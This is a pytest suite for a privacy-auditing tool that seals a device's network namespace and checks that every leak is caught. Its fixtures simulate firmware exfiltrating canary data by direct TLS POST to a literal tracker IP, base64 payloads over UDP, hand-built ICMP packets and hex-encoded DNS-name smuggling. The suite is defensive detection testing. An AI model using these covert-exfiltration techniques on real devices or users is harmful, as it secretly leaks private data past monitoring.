"""The sealed capture boundary, with real parts: a network namespace, nft, tcpdump and mitmdump.

A process inside the device's namespace plays the firmware that ignores proxy settings: it
connects straight to literal addresses, sends UDP and ICMP, and smuggles data into DNS
names. Every one of those must be seen: captured and decrypted, or recorded by the packet
record as not examined, with its address and the server's country. Traffic only ever goes
to addresses inside namespaces these tests make (47.241.10.20 is reached only from inside
the sealed namespace, whose every packet ends in the capture or is dropped).
"""

from __future__ import annotations

from dataclasses import replace

import base64
import json
import os
import shutil
import signal
import subprocess
import sys
import textwrap
import time

import pytest

from telltale import judge
from telltale.capture import boundary, store
from telltale.capture.station import Station
from telltale.destinations import policy, rules, transport
from telltale.errors import CaptureBroken
from telltale.inventory import Device, ProxySettings
from telltale.window import Window

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or not all(shutil.which(p) for p in ("ip", "nft", "tcpdump")),
    reason="the sealed boundary needs root, ip, nft and tcpdump (`telltale setup` installs them)")

ANALYTICS = "tracking.intl.miui.com"
ANALYTICS_IP = "47.241.10.20"  # Singapore in the offline location data


def _device(name: str = "sealtest") -> Device:
    return Device(name=name, platform="chromium", appium="local",
                  proxy=ProxySettings(hosts={ANALYTICS: ANALYTICS_IP}))


@pytest.fixture
def station(ready, tmp_path):
    st = Station(_device(), tmp_path / "captures", ready.mitmproxy_conf, tmp_path / "logs")
    st.start()
    try:
        yield st
    finally:
        st.stop()


def _inside(st: Station, code: str, timeout: float = 20) -> subprocess.CompletedProcess:
    """Run Python inside the device's namespace, as a firmware process would."""
    return subprocess.run([*st.exec_prefix(), sys.executable, "-c", textwrap.dedent(code)],
                          capture_output=True, text=True, timeout=timeout)


def _window(st: Station, wid: str) -> Window:
    w = Window(st.proxy, wid)
    st.proxy.open_window(wid)
    return w


def test_the_seal_is_proven_and_its_evidence_written(station):
    proof = json.loads((station.captures / "sealtest-boundary.json").read_text())
    assert proof["problems"] == []
    assert proof["boundary"].startswith("sealed")
    assert proof["accounted"]["not-examined"] >= 1  # the probe's dropped datagram, seen by the record
    assert (station.captures / "sealtest-link.pcap").stat().st_size > 24


def test_a_direct_connection_to_a_literal_ip_is_captured_and_decrypted(station, ready):
    canary = "tt-direct-" + os.urandom(6).hex()
    w = _window(station, "w-direct")
    r = _inside(station, f"""
        import socket, ssl
        ctx = ssl.create_default_context(cafile={str(ready.ca_cert)!r})
        with socket.create_connection(({ANALYTICS_IP!r}, 443), timeout=10) as raw:
            with ctx.wrap_socket(raw, server_hostname={ANALYTICS!r}) as s:
                s.sendall(b"POST /collect HTTP/1.1\\r\\nHost: {ANALYTICS}\\r\\nContent-Length: {len(canary)}"
                          b"\\r\\nConnection: close\\r\\n\\r\\n{canary}")
                print(s.recv(100).split(b"\\r\\n")[0].decode())
        """)
    assert r.returncode == 0 and "204" in r.stdout, r.stderr  # the offline capture answered
    t = w.traffic()
    posts = [f for f in t.flows if getattr(f, "request", None) is not None and f.request.method == "POST"]
    assert len(posts) == 1 and posts[0].request.raw_content == canary.encode()
    assert posts[0].client_conn.peername[0] == station.device_address
    assert t.accounted["decrypted"] >= 1 and t.accounted["not-examined"] == 0
    found = judge.check(t.flows, {"c": canary}, allowed=judge.nobody).findings
    assert [(f.host, f.canary) for f in found] == [(ANALYTICS, "c")]


def test_udp_and_icmp_are_recorded_as_not_examined_with_address_and_country(station):
    url = "https://tt-udp0000.example.net/read/" + os.urandom(4).hex()
    payload = base64.b64encode(json.dumps({"url": url}).encode()).decode()
    w = _window(station, "w-udp")
    r = _inside(station, f"""
        import socket, struct
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto({payload!r}.encode(), ({ANALYTICS_IP!r}, 443))
        icmp = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        body = b"telltale-icmp"
        def csum(b):
            b += b"\\0" * (len(b) % 2)
            s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
            s = (s >> 16) + (s & 0xffff); s += s >> 16
            return ~s & 0xffff
        hdr = struct.pack("!BBHHH", 8, 0, 0, 7, 1)
        icmp.sendto(struct.pack("!BBHHH", 8, 0, csum(hdr + body), 7, 1) + body, ("77.88.55.60", 0))
        """)
    assert r.returncode == 0, r.stderr
    time.sleep(0.3)
    t = w.traffic()
    escaped = [f for f in t.flows if f.metadata.get(store.UNEXAMINED_KEY)]
    cs = {c.protocol: c for c in transport.contacts(escaped)}
    assert set(cs) == {"udp", "icmp"}, [f.metadata for f in escaped]
    assert (cs["udp"].ip, cs["udp"].port, cs["udp"].host) == (ANALYTICS_IP, 443, ANALYTICS)
    assert cs["icmp"].ip == "77.88.55.60"
    pol = policy.Policy(source="test")
    lk = rules.lookups_for(pol, trackers=False)
    seen = rules.Traffic(tuple(cs.values()))
    countries = rules.check_countries(seen, replace(pol, forbidden=("SG", "RU")), lk)
    assert {(f.ip, f.country, f.verdict) for f in countries.findings} == {
        (ANALYTICS_IP, "SG", "violation"), ("77.88.55.60", "RU", "violation")}
    unexamined = rules.check_unexamined(seen, pol, rules.Lookups())
    assert {f.verdict for f in unexamined.findings} == {"violation"} and len(unexamined.findings) == 2
    # The datagram's plaintext payload is scanned like any request body.
    found = judge.check(t.flows, {"visited_url": url}, allowed=judge.nobody).findings
    assert any(f.host == ANALYTICS and "base64" in f.location for f in found)


def test_a_dns_name_carrying_a_canary_is_a_finding_and_the_clean_lookup_is_not(station):
    site = "tt-" + os.urandom(5).hex() + ".example.net"
    w = _window(station, "w-dns")
    r = _inside(station, f"""
        import socket
        print(socket.gethostbyname({site!r}))
        print(socket.gethostbyname({site.encode().hex()!r} + ".7.{ANALYTICS}"))
        """)
    assert r.returncode == 0, r.stderr
    assert r.stdout.split()[1] == ANALYTICS_IP  # a name under a mapped host is answered with its address
    t = w.traffic()
    assert t.accounted["dns"] >= 2
    found = judge.check(t.flows, {"visited_site": site}, allowed=judge.same_host(site)).findings
    assert len(found) == 1 and found[0].host.endswith("." + ANALYTICS) and "hex" in found[0].location


def test_a_broken_seal_is_never_trusted(station):
    subprocess.run(["nft", "delete", "table", "inet", station.network.slot.table], check=True)
    with pytest.raises(CaptureBroken, match="not proven"):
        station.prove(station.proxy)


def test_a_killed_runs_namespace_is_cleaned_by_the_next_run(ready, tmp_path):
    code = """
        import sys, time
        from telltale.capture.boundary import SealedNetwork
        net = SealedNetwork("killed-run")
        s = net.create()
        print(s.n, s.ns, flush=True)
        time.sleep(600)
        """
    proc = subprocess.Popen([sys.executable, "-c", textwrap.dedent(code)], stdout=subprocess.PIPE, text=True)
    try:
        n, ns = proc.stdout.readline().split()
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    assert ns in subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout
    said: list[str] = []
    cleaned = boundary.clean_stale(said.append)
    assert any(f"slot {n}" in m and ns in m and "killed-run" in m for m in cleaned), cleaned
    assert said == cleaned
    assert ns not in subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout
    assert subprocess.run(["ip", "link", "show", boundary.Slot(int(n)).host_if],
                          capture_output=True).returncode != 0


def test_without_root_a_sealed_device_stops_at_once_with_what_to_do(monkeypatch):
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    problem = boundary.requirements_problem()
    assert problem and "root" in problem and "capture: proxy" in problem
